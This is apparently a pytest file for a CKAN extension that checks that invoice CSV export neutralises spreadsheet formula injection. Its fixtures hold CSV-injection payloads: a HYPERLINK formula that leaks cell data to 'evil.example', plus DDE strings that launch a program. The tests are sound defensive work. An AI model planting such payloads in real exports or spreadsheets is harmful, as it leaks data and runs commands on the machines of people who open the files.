"""Text that a spreadsheet would run as a formula is written so that it shows as text (OWASP: CSV injection)."""

from __future__ import annotations

import csv
from pathlib import Path

from click.testing import CliRunner

from ckanext.openup.cli.prepare import prepare_command
from ckanext.openup.procurement.preparation import prepare_invoice_file
from ckanext.openup.procurement.values import parse_amount_text
from tests.procurement.identity_oracle import write_swedish_file

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Faktura")'
FORMULAS = [
    ("konto_text", HYPERLINK),
    ("leverantor", "+cmd|' /C calc'!A0"),
    ("forvaltning", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("fakturanummer", "-2+3+cmd|' /C calc'!A0"),
    ("verifikationsnummer", "=1+1"),
    ("konto_text", "\t" + HYPERLINK),  # a leading TAB once kept it text; stripping it must not bring it back
    ("forvaltning", "\r=1+1"),
]
NUMBERS = [("konto_text", "-5"), ("fakturanummer", "-1234"), ("forvaltning", "+46")]


def prepared_rows(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8", newline="") as stream:
        return list(csv.DictReader(stream))


def runs_as_formula(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and parse_amount_text(cell.strip()) is None


def test_formulas_in_text_cells_are_written_with_a_leading_quote(tmp_path):
    source = write_swedish_file(tmp_path / "ledger.csv", FORMULAS)
    report = prepare_invoice_file(source, tmp_path / "out")
    rows = prepared_rows(Path(report.files[0].path))
    written = [row[column] for row, (column, _value) in zip(rows, FORMULAS, strict=True)]
    assert written == ["'" + value.lstrip("\t\r") for _column, value in FORMULAS]
    assert not [cell for row in rows for cell in row.values() if runs_as_formula(cell)]


def test_numbers_with_a_sign_stay_numbers(tmp_path):
    source = write_swedish_file(tmp_path / "ledger.csv", [*NUMBERS, ("konto_text", "Material")])
    with open(source, encoding="utf-8") as stream:
        text = stream.read().replace("100,00", "-120,50")  # every row a credit note
    source.write_text(text, encoding="utf-8")
    report = prepare_invoice_file(source, tmp_path / "out")
    rows = prepared_rows(Path(report.files[0].path))
    assert [row[column] for row, (column, _value) in zip(rows, NUMBERS, strict=False)] == ["-5", "-1234", "+46"]
    assert {row["belopp"] for row in rows} == {"-120.50"}
    assert not [finding for finding in report.inspection.findings if finding.code == "formula"]


def test_neutralised_formulas_are_reported_with_count_column_and_line(tmp_path):
    source = write_swedish_file(tmp_path / "ledger.csv", FORMULAS)
    report = prepare_invoice_file(source, tmp_path / "out")
    findings = {finding.column: finding for finding in report.inspection.findings if finding.code == "formula"}
    assert findings["konto_text"].count == 2
    assert [example["line"] for example in findings["konto_text"].examples] == [2, 7]
    assert sum(finding.count for finding in findings.values()) == len(FORMULAS)
    assert report.ok  # neutralised, so nothing is left to fix


def test_prepare_command_says_how_many_cells_and_where(tmp_path):
    source = write_swedish_file(tmp_path / "ledger.csv", FORMULAS)
    result = CliRunner().invoke(prepare_command, [str(source), "--out", str(tmp_path / "out")], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    assert "ledger.csv, line 2, column 'konto_text': starts like a spreadsheet formula" in result.output
    assert "2 lines in all; also lines 7" in result.output
